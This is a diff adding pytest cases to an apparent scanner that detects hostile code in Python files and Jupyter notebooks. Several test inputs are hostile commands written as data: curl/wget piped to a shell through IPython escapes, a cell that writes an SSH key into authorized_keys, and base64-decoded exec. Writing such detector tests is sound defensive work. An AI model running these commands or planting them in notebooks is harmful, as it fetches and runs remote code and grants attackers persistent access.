@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import json
 import zipfile
 
 import pytest
@@ -95,3 +96,42 @@ def test_one_cause_is_one_finding() -> None:
     text = "import base64\nexec(base64.b64decode(a))\nexec(base64.b64decode(b))\n"
     (found,) = findings_of(text, "x.py")
     assert found.evidence["lines"] == [2, 3]
+
+
+@pytest.mark.parametrize(
+    ("cell", "rule"),
+    [
+        ("x = !wget -qO- http://192.0.2.1/a | bash", "hostile-command"),
+        ("x, y = %sx curl http://192.0.2.1/a | sh", "hostile-command"),
+        ("get_ipython().system('curl http://192.0.2.1/a | sh')", "hostile-command"),
+        ("%%writefile ~/.ssh/authorized_keys\nssh-rsa AAAA", "persistence"),
+        ("%%writefile x.py\nimport base64\nexec(base64.b64decode('eA=='))", "hidden-code"),
+    ],
+)
+def test_what_ipython_hands_to_a_shell_or_writes(cell: str, rule: str) -> None:
+    assert rules_of(_notebook(cell), "x.ipynb") == {rule}
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "gpu = !nvidia-smi",
+        "files = !ls *.pt\nif a != 3:\n    b = a != 4",
+        "get_ipython().system('pip install torch')",
+        "%%writefile train.py\nimport os\nos.makedirs('out')",
+    ],
+)
+def test_what_notebooks_of_ipython_do_every_day(cell: str) -> None:
+    assert findings_of(_notebook(cell), "x.ipynb") == []
+
+
+def _notebook(cell: str) -> str:
+    code = {"cell_type": "code", "source": cell, "metadata": {}, "outputs": []}
+    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [code]})
+
+
+def test_letters_that_are_not_ascii_hide_no_word() -> None:
+    named = 'exec("def f(caf" + chr(0xE9) + "=1): pass", names)'
+    spelled = 'exec(chr(105) + "mport os", names)'
+    assert findings_of(named, "x.py") == []
+    assert rules_of(spelled, "x.py") == {"hidden-code"}
